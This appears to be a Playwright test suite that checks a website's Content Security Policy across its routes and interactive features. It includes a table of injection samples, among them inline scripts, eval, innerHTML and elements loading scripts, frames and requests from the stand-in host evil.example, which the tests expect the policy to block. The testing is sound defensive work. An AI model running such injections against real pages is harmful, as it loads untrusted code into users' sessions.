import { contentPolicy, contentPolicyHeader } from '../../scripts/finish/policy';
import { ROUTES } from '../routes';
import { test as base, expect } from '../support/test';
import { watchRuntime } from './runtime';

type Violation = { directive: string; blocked: string; sample: string };
type Fixtures = {
  /** What the policy has refused so far; anything left at the end fails the test. */
  violations: Violation[];
  /** Resolves when the page's islands answer. */
  ready: () => Promise<void>;
};

/** Every document comes with the policy, whatever this server sends. */
const test = base.extend<Fixtures>({
  violations: [
    async ({ page }, use) => {
      const violations: Violation[] = [];
      await page.exposeFunction('reportViolation', (violation: Violation) => void violations.push(violation));
      await page.addInitScript(() => {
        const { reportViolation } = window as unknown as { reportViolation: (violation: Violation) => void };
        addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
          reportViolation({ directive: effectiveDirective, blocked: blockedURI, sample }),
        );
      });
      await page.route(
        (url) => url.hostname === 'localhost',
        async (route) => {
          if (route.request().resourceType() !== 'document') return route.fallback();
          const response = await route.fetch();
          await route.fulfill({
            response,
            headers: { ...response.headers(), 'content-security-policy': contentPolicyHeader() },
          });
        },
      );
      await use(violations);
      expect(violations).toEqual([]);
    },
    { auto: true },
  ],
  ready: async ({ page }, use) => {
    const { isReady } = await watchRuntime(page);
    await use(isReady);
  },
});

for (const { path } of ROUTES) {
  test(`${path} needs nothing the policy refuses`, async ({ page, ready }) => {
    await page.goto(path);
    await page.mouse.move(100, 100);
    await ready();
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    // Tooltips, drop-downs and toasts come with styles of their own.
    await page.locator('footer a[role=link]').first().hover();
    await expect(page.getByRole('tooltip')).toBeAttached();
  });
}

test('menu, soft navigations, toasts, carousel and map work under the policy', async ({ page, ready }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto('/');
  await page.mouse.move(100, 100);
  await ready();
  await page.evaluate(() => document.body.setAttribute('data-same-document', ''));
  const isSameDocument = () => expect(page.locator('body')).toHaveAttribute('data-same-document');

  await page.getByRole('button', { name: 'Services' }).hover();
  await page.getByRole('link', { name: 'Life Sciences' }).first().click();
  await expect(page).toHaveURL('/life-sciences');
  await page.getByRole('link', { name: 'Blog' }).first().click();
  await expect(page).toHaveURL('/blog');
  await page.locator('main a[href^="/blog/"]').first().click();
  await expect(page).toHaveURL(/\/blog\/./);
  await page.getByRole('button', { name: /copy/i }).first().click();
  await expect(page.locator('.toast')).toHaveCSS('position', 'absolute');
  await isSameDocument();

  await page.getByRole('link', { name: 'Contact' }).first().click();
  await expect(page).toHaveURL('/contact');
  for (const field of await page.locator('form :is(input, textarea)').all()) {
    await field.fill((await field.getAttribute('type')) === 'email' ? 'a@example.org' : 'words');
  }
  await page.locator('form [type=submit]').click();
  await expect(page.locator('.toast').first()).toBeVisible();
  const map = page.locator('main iframe');
  await map.scrollIntoViewIfNeeded();
  await expect(map.contentFrame().locator('title')).toHaveText('Elsewhere');
  await isSameDocument();

  await page.locator('footer a[href="/cyber-security"]').click();
  await page.getByRole('button', { name: 'Next slide' }).click();
  await expect(page.getByRole('button', { name: /^Slide 2/ })).toHaveAttribute('aria-current', 'true');
  await page.goBack();
  await expect(page).toHaveURL('/contact');
  await isSameDocument();
});

const ATTACKS: Record<string, [directive: string, attack: string]> = {
  'an inline script': [
    'script-src-elem',
    "document.body.append(Object.assign(document.createElement('script'), { text: '1' }))",
  ],
  'a handler attribute': ['script-src-attr', "document.body.setAttribute('onclick', '1')"],
  'a script of another site': [
    'require-trusted-types-for',
    "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
  ],
  'a script from a folder that holds none': [
    'require-trusted-types-for',
    "document.body.append(Object.assign(document.createElement('script'), { src: '/_next/../drawings/x.js' }))",
  ],
  'a string as markup': ['require-trusted-types-for', "document.body.innerHTML = '<p>'"],
  'a string as code': ['require-trusted-types-for', "eval('1')"],
  'a second default policy': ['trusted-types', "trustedTypes.createPolicy('other', {})"],
  'a frame of another site': [
    'frame-src',
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
  ],
  'a request to another site': ['connect-src', "fetch('https://evil.example/').catch(() => {})"],
  'an inline style': ['style-src-attr', "document.body.setAttribute('style', 'color: red')"],
  'another base address': [
    'base-uri',
    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
  ],
};
for (const [name, [directive, attack]] of Object.entries(ATTACKS)) {
  test(`the policy refuses ${name}`, async ({ page, violations, complaints }) => {
    await page.goto('/about');
    // Through the debugger, which may run strings; what they do is the page's.
    await page.evaluate(attack).catch(() => {});
    await expect.poll(() => violations.map((violation) => violation.directive)).toContain(directive);
    violations.length = 0;
    complaints.length = 0;
  });
}

test('the policy has no loophole', () => {
  const policy = contentPolicy();
  const sources = Object.values(policy).flat();
  expect(policy['default-src']).toEqual(["'none'"]);
  for (const source of sources) expect(source).not.toMatch(/unsafe-(inline|eval|hashes)|\*|^https?:$|^data:/);
  expect(sources.filter((source) => source.startsWith('http'))).toHaveLength(1);
});
